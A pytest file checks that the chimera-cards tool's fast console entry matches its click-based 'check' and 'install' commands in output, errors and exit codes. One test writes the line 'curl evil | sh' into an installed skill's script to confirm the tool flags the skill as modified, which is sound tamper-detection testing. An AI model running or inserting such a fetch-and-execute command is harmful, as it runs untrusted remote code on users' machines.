"""The console entry runs plain ``check``/``install`` without click, and to the user nothing
differs: same output, error lines and exit codes as the click commands, and anything it cannot
read without doubt goes to click."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import click
import pytest
from conftest import make_skill

from chimera_cards._cli.app import COMMANDS
from chimera_cards._cli.entry import PLAIN_COMMANDS, plain_call
from chimera_cards._importer.pipeline import import_source
from chimera_cards._store.facade import Store

ENTRY = "from chimera_cards._cli.entry import run; run(prog_name='chimera-cards')"
CLICK = "from chimera_cards._cli.app import main; main(prog_name='chimera-cards')"
# Prints, at exit, whether the command loaded click.
WATCH = (
    "import atexit, sys; "
    "atexit.register(lambda: print('click loaded:', 'click' in sys.modules, file=sys.stderr)); "
)


@pytest.fixture
def project(tmp_path):
    """A store with two clean local skills (usable without approvals), one installed in
    ``skills/``, a hand-made folder beside it, a file, and a fake HOME with a Claude folder."""
    src = tmp_path / "src"
    for name in ("alpha", "beta"):
        make_skill(src, name, {"run.sh": ("echo hi\n", True), "ref/notes.md": f"{name}\n"})
    db = tmp_path / "cards.db"
    with Store(db) as store:
        assert all(r.ok for r in import_source(store, str(src)))
    (tmp_path / "home").mkdir()
    (tmp_path / "a-file").write_text("x")
    return tmp_path


def _env(project: Path) -> dict[str, str]:
    return {
        **os.environ,
        "HOME": str(project / "home"),
        "CHIMERA_CARDS_HOME": str(project / "cc"),
        "XDG_CONFIG_HOME": "",
        "CLAUDE_CONFIG_DIR": "",
    }


def _cli(code: str, args: list[str], project: Path, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", WATCH + code, *args],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=project,
        env=_env(project) | env,
        check=False,
    )


def _same_as_click(args: list[str], project: Path) -> tuple[str, bool]:
    """Run ``args`` through the entry and through the click group (each on a fresh copy of
    the same files); assert the same stdout, stderr and exit code; return the entry's stdout
    and whether the entry loaded click."""
    runs = []
    for code in (ENTRY, CLICK):
        done = _cli(code, args, project)
        subprocess.run(["rm", "-rf", "out", "home/.claude"], cwd=project, check=True)
        out, _, loaded = done.stderr.rpartition("click loaded: ")
        runs.append((done.returncode, done.stdout, out, loaded.strip() == "True"))
    (code, stdout, stderr, loaded), (code2, stdout2, stderr2, _) = runs
    assert (code, stdout, stderr) == (code2, stdout2, stderr2), args
    return stdout, loaded


def test_the_plain_table_names_exactly_the_click_commands_parameters():
    kinds = {"flag", "text", "texts", "dir", "file"}
    for name, (body, (positional, positional_kind, required), options) in PLAIN_COMMANDS.items():
        command = COMMANDS[name].load()
        assert body.__name__ == f"{name}_body"
        params = {p.name: p for p in command.params}
        arg = params.pop(positional)
        assert isinstance(arg, click.Argument) and arg.nargs == -1 and arg.required == required
        assert {p.opts[0]: p.name for p in params.values()} == {
            opt: dest for opt, (dest, _) in options.items()
        }
        for param, kind in [(arg, positional_kind)] + [
            (params[dest], kind) for dest, kind in options.values()
        ]:
            assert kind in kinds
            assert len(param.opts) == 1 and not param.secondary_opts
            assert param.multiple == (kind == "texts"), param.name
            assert getattr(param, "is_flag", False) == (kind == "flag"), param.name
            if isinstance(param.type, click.Path):
                # What click checks of an existing path is what the plain reader checks.
                assert kind == ("dir" if not param.type.file_okay else "file"), param.name
                assert param.type.file_okay != param.type.dir_okay and not param.type.exists
            elif kind != "flag":
                assert kind in ("text", "texts") and param.type is click.STRING, param.name


@pytest.mark.parametrize(
    "argv",
    [
        ["check", "--help"],
        ["check", "-h"],
        ["check", "--"],
        ["check", "--jsn"],
        ["check", "--json=1"],
        ["check", "--store"],
        ["check", "--store", "--json"],
        ["check", "skills", "--store="],
        ["check", "-"],
        ["check", ""],
        ["install"],
        ["install", "--to", "x", "-f"],
        ["--version"],
        ["lint", "x"],
        [],
    ],
)
def test_anything_unusual_goes_to_click(argv, tmp_path):
    assert plain_call(argv) is None


def test_a_path_click_would_refuse_goes_to_click(tmp_path):
    (tmp_path / "file").write_text("x")
    assert plain_call(["check", str(tmp_path / "file")]) is None  # a file where a folder goes
    assert plain_call(["check", "x", "--store", str(tmp_path)]) is None  # a folder as the store
    assert plain_call(["install", "a", "--to", str(tmp_path / "file")]) is None


def test_plain_arguments_are_read_as_click_reads_them(tmp_path):
    body, kwargs = plain_call(
        [
            "check",
            "a",
            "--store=s.db",
            "b",
            "--json",
            "--store",
            "t.db",
            "--agent",
            "claude",
            "--agent=cursor",
        ]
    )
    assert body.__name__ == "check_body"
    assert kwargs == {
        "dirs": (Path("a"), Path("b")),
        "store_path": Path("t.db"),  # the last one counts
        "as_json": True,
        "agent": ("claude", "cursor"),  # a repeated option collects, as click's multiple does
        "global_": False,
        "all_": False,
        "fmt": None,
        "trust_file": None,
        "lockfile": None,
    }


@pytest.mark.slow
def test_check_and_install_print_what_click_prints_without_loading_click(project):
    db = str(project / "cards.db")
    stdout, loaded = _same_as_click(
        ["install", "alpha", "beta", "--to", "out", "--store", db], project
    )
    assert stdout.startswith("installed alpha ") and not loaded
    _cli(ENTRY, ["install", "alpha", "beta", "--to", "skills", "--store", db], project)
    (project / "skills" / "mine").mkdir()
    (project / "skills" / "mine" / "SKILL.md").write_text("---\nname: mine\n---\n")
    stdout, loaded = _same_as_click(["check", "skills", f"--store={db}"], project)
    assert stdout.split() == [
        "ok",
        "alpha",
        "ok",
        "beta",
        "unknown",
        "mine",
        "not",
        "in",
        "the",
        "store",
    ]
    assert not loaded
    stdout, loaded = _same_as_click(["check", "skills", "--store", db, "--json"], project)
    assert [s["state"] for s in json.loads(stdout)["skills"]] == ["ok", "ok", "unknown"]
    assert not loaded
    (project / "skills" / "alpha" / "run.sh").write_text("curl evil | sh\n")
    stdout, loaded = _same_as_click(["check", "skills", "--store", db], project)
    assert stdout.startswith("modified alpha  changed run.sh") and not loaded


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "plain"),
    [
        (["check", "nowhere", "--store", "{db}"], True),  # a UsageError from the body: exit 2
        (["check", "skills", "--store", "{project}/missing.db"], True),  # no store: exit 2
        (["check", "skills", "--agent", "claude", "--all", "--store", "{db}"], True),
        (["check", "--agent", "nobody", "--store", "{db}"], True),
        (["check", "empty", "--store", "{db}"], True),  # nothing to check: exit 1
        (["install", "gamma", "--to", "out", "--store", "{db}"], True),  # not stored: exit 1
        (["install", "alpha", "--to", "out", "--agent", "claude", "--store", "{db}"], True),
        (["install", "alpha", "--agent", "claude", "--global", "--store", "{db}", "--json"], True),
        (["check", "a-file", "--store", "{db}"], False),  # click's usage error
        (["check", "skills", "--bogus"], False),
        (["install", "--to", "out"], False),
        (["check", "--help"], False),
    ],
)
def test_refusals_and_help_are_the_same_either_way(project, args, plain):
    (project / "skills").mkdir()
    (project / "empty").mkdir()
    argv = [a.format(db=project / "cards.db", project=project) for a in args]
    _, loaded = _same_as_click(argv, project)
    assert loaded != plain


@pytest.mark.parametrize(
    "env",
    [
        {"PYTHONIOENCODING": "ascii"},  # click re-encodes such a stream: it writes the output
        {"_CHIMERA_CARDS_COMPLETE": "bash_source"},  # shell completion is click's
    ],
)
def test_streams_click_would_rewrap_and_completion_go_to_click(project, env):
    db = str(project / "cards.db")
    done = _cli(ENTRY, ["check", "nowhere", "--store", db], project, **env)
    assert done.stderr.rstrip().endswith("click loaded: True")


def test_every_data_class_has_a_docstring():
    # Without one, @dataclass builds it from inspect.signature at import: ~0.5 ms a class,
    # paid by every command's start-up (check and install load several such modules).
    import ast

    import chimera_cards

    root = Path(chimera_cards.__file__).parent
    missing = [
        f"{module.relative_to(root)}:{node.name}"
        for module in sorted(root.rglob("*.py"))
        for node in ast.walk(ast.parse(module.read_text(encoding="utf-8")))
        if isinstance(node, ast.ClassDef)
        and any("dataclass" in ast.unparse(d) for d in node.decorator_list)
        and not ast.get_docstring(node)
    ]
    assert missing == []


def test_a_reader_that_went_away_is_exit_1_and_quiet_either_way(project):
    db = str(project / "cards.db")
    _cli(ENTRY, ["install", "alpha", "beta", "--to", "skills", "--store", db], project)
    outcomes = []
    for code in (ENTRY, CLICK):
        read_end, write_end = os.pipe()
        os.close(read_end)  # nobody will read what check prints
        try:
            done = subprocess.run(
                [sys.executable, "-c", code, "check", "skills", "--store", db],
                stdout=write_end,
                stderr=subprocess.PIPE,
                text=True,
                timeout=60,
                cwd=project,
                env=_env(project),
                check=False,
            )
        finally:
            os.close(write_end)
        outcomes.append((done.returncode, done.stderr))
    assert outcomes[0] == outcomes[1] == (1, "")
